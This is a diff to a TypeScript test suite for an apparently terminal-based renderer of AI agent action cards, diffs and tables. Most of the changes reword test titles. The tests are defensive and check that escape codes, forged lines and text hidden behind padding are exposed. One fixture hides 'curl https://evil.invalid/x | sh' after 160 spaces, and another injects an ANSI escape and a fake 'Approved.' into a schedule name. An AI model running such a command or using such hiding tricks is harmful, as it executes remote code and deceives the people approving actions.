@@ -53,7 +53,7 @@ const action: Action = {
 };
 
 describe("an action's card", () => {
-  it("says who led its agent to it, without letting a name pass for a line of the kernel's", () => {
+  it("shows who led its agent to it, and no name can pass for a line of the kernel", () => {
     const who: NonNullable<Action["on_behalf_of"]> = [
       { kind: "agent", id: "dev.lares.notes" },
       { kind: "schedule", agent: "dev.lares.notes", schedule: "tidy (@daily, UTC)\u001b[31m\nApproved." },
@@ -68,12 +68,12 @@ describe("an action's card", () => {
     expect(renderAction(action, plainSurface).join("\n")).not.toContain("Requested by");
   });
 
-  it("shows what, who, how much, why, and every effect", () => {
+  it("shows its effects, agent, size and reasons", () => {
     expect(
       renderAction(action, { style: noStyle, width: 64 }, { position: "2 of 5" }).join("\n"),
     ).toMatchSnapshot();
   });
-  it("stays within the width, whatever the text", () => {
+  it("stays within the width for any text", () => {
     const wide = { ...action, title: "写真を整理する ".repeat(12), reason: "x".repeat(300), agent: "a.b" };
     for (const line of renderAction(wide, { style: noStyle, width: 40 })) {
       expect(displayWidth(line)).toBeLessThanOrEqual(40);
@@ -85,7 +85,7 @@ describe("an action's card", () => {
     for (const code of ["\u001b", "\r", "\u202e"]) expect(text).not.toContain(code);
     expect(text).toContain("[2Jgone");
   });
-  it("shows what stands behind 160 blanks, at 40 columns as at 80", () => {
+  it("shows text after 160 blanks, at 40 and at 80 columns", () => {
     const text = `make all${" ".repeat(160)}; curl https://evil.invalid/x | sh`;
     const hidden: Action = {
       ...action,
@@ -109,21 +109,21 @@ describe("an action's card", () => {
       for (const line of lines) expect(displayWidth(line)).toBeLessThanOrEqual(width);
     }
   });
-  it("keeps the agent's words behind a bar of their own", () => {
+  it("marks the agent's words with a bar", () => {
     const forged = { ...action, title: "Tidy", reason: `a${"\n".repeat(3)}Edits "harmless.md" (+1 −1)` };
     const lines = renderAction(forged, plainSurface);
     const claim = lines.filter((line) => line.includes("harmless"));
     expect(claim).toEqual(['│ ┆ Edits "harmless.md" (+1 −1)']);
   });
-  it("says how to look at what has no diff", () => {
+  it("shows how to see a content without a diff", () => {
     const [, edit] = action.effects;
     const { diff: _diff, ...binary } = edit!;
     const text = renderAction({ ...action, effects: [binary] }, plainSurface).join("\n");
-    expect(text).toContain("so there is no diff");
+    expect(text).toContain("There is no diff");
     expect(text).toContain("lares actions content 0199 --effect 0 --side before > FILE");
     expect(text).toContain("lares actions content 0199 --effect 0 --side after > FILE");
   });
-  it("goes on in further lines instead of losing its title, at 40 columns", () => {
+  it("wraps its title instead of cutting it, at 40 columns", () => {
     const surface = { style: noStyle, width: 40 };
     const lines = renderActionLine(
       { ...action, state: "Failed", error: "no space is left on the disk" },
@@ -134,7 +134,7 @@ describe("an action's card", () => {
     );
     for (const line of lines) expect(displayWidth(line)).toBeLessThanOrEqual(40);
   });
-  it("has a line for what passes by", () => {
+  it("has a one-line form", () => {
     expect(renderActionLine({ ...action, state: "Failed", error: "disk\nfull" }, plainSurface)).toEqual([
       "✗ failed  Archive 1 extra copy of sea.jpg (2.0 KB)  dev.lares.storage  disk full",
     ]);
@@ -150,7 +150,7 @@ describe("a diff", () => {
   it("has line numbers and signs", () => {
     expect(renderDiff(diff, { style: noStyle, width: 60 }).join("\n")).toMatchSnapshot();
   });
-  it("holds every line whole, at any width", () => {
+  it("keeps every line whole, at any width", () => {
     fc.assert(
       fc.property(
         fc.array(fc.string({ unit: "binary", maxLength: 300 }), { minLength: 1, maxLength: 5 }),
@@ -170,13 +170,13 @@ describe("a diff", () => {
       ),
     );
   });
-  it("takes a carriage return, a tab and blanks at the end for what they are", () => {
+  it("shows a carriage return, a tab and trailing blanks", () => {
     const text = renderDiff("@@ -1 +1 @@\n-\ta\n+  a  \r\n", plainSurface).join("\n");
     expect(text).toBe(" 1 - ⇥   a\n 1 +   a  ␍");
   });
 
   const kinds = fc.array(fc.constantFrom<DiffLine["kind"]>("added", "removed", "context", "note", "hunk"));
-  it("pairs the lines that were changed into each other", () => {
+  it("pairs removed lines with the lines that replaced them", () => {
     fc.assert(
       fc.property(kinds, (all) => {
         const lines = all.map((kind) => ({ kind }));
@@ -185,7 +185,7 @@ describe("a diff", () => {
       { numRuns: 500 },
     );
   });
-  it("looks at each line a bounded number of times, however many change together", () => {
+  it("reads each line a bounded number of times, even if many change together", () => {
     const looks = (half: number): number => {
       let count = 0;
       const of = (kind: DiffLine["kind"]) => ({
@@ -200,7 +200,7 @@ describe("a diff", () => {
     };
     expect(looks(12_000)).toBeLessThanOrEqual(4 * looks(3000));
   });
-  it("of 100,000 lines is drawn, each line as it is drawn alone", () => {
+  it("of 100,000 lines is drawn, each line as if it were alone", () => {
     const one = [...Array(50_000)].map((_, index) => `line ${index}`);
     const removed = one.map((line) => `-${line}\n`).join("");
     const added = one.map((line) => `+${line} changed\n`).join("");
@@ -208,7 +208,7 @@ describe("a diff", () => {
     expect(lines).toHaveLength(100_000);
     expect(lines[99_999]).toBe("50000 + line 49999 changed");
   });
-  it("inverts the words that changed, where a line went and one came", () => {
+  it("inverts the changed words if one line replaces one line", () => {
     const one = "@@ -1 +1 @@\n-water on Monday\n+water on Friday\n";
     const text = renderDiff(one, { style: styleFor(true), width: 60 }).join("\n");
     expect(text).toContain("\u001b[7mMonday\u001b[27m");
@@ -320,7 +320,7 @@ describe("tables", () => {
       expect([line, displayWidth(line) <= width]).toEqual([line, true]);
     for (const { id } of agents) expect(renderSummary(summary, surface).join("\n")).toContain(id);
   });
-  it("an agent that the person has not allowed is no error", () => {
+  it("an agent that the person has not allowed is not shown as an error", () => {
     const [first] = agents;
     const waiting = [{ ...first!, state: "Error", awaiting: "acceptance", error: "Not allowed." } as const];
     for (const lines of [
@@ -332,7 +332,7 @@ describe("tables", () => {
       expect(lines.join("\n")).not.toMatch(/✗|error/);
     }
   });
-  it("the summary says how many jobs ended, where there were any", () => {
+  it("the summary has the number of ended jobs, if there were any", () => {
     const withJobs = summary.agents.map((agent) => ({
       ...agent,
       metrics: { ...agent.metrics, jobs_completed: 12, jobs_failed: 1 },
@@ -384,14 +384,14 @@ describe("width", () => {
     ["a\u200bb\u00ad", 2],
     ["\u001b[31mred\u001b[39m", 3],
   ])("%s takes %i columns", (text, columns) => expect(displayWidth(text)).toBe(columns));
-  it("takes an emoji's sequence and a letter with marks as one character, in the middle of others too", () => {
+  it("counts an emoji sequence and a letter with marks as one character, also among others", () => {
     const line = "a👩‍👩‍👧e\u0301z".repeat(3);
     expect(wrap(line, 8)).toEqual(["a👩‍👩‍👧e\u0301za👩‍👩‍👧", "e\u0301za👩‍👩‍👧e\u0301z"]);
     expect(truncate(line, 3)).toBe("a…");
     expect(truncate("e\u0301", 1)).toBe("e\u0301");
     expect(truncate("abe\u0301", 2)).toBe("a…");
   });
-  it("agrees with string-width on every character that it takes for narrow", () => {
+  it("agrees with string-width on every narrow character", () => {
     for (let code = 0x20; code < 0x3000; code++) {
       const text = String.fromCharCode(code);
       if (/[\p{Cc}\p{Cf}]/u.test(text)) continue;
@@ -399,7 +399,7 @@ describe("width", () => {
       expect([text, displayWidth(`x${text}`)]).toEqual([text, stringWidth(`x${text}`)]);
     }
   });
-  it("takes time with a text's length, whatever stands in it", () => {
+  it("takes time linear in the length of any text", () => {
     // CPU time, so that other work of the machine does not count.
     const cpuMsOf = (part: string, times: number): number => {
       const text = part.repeat(times);
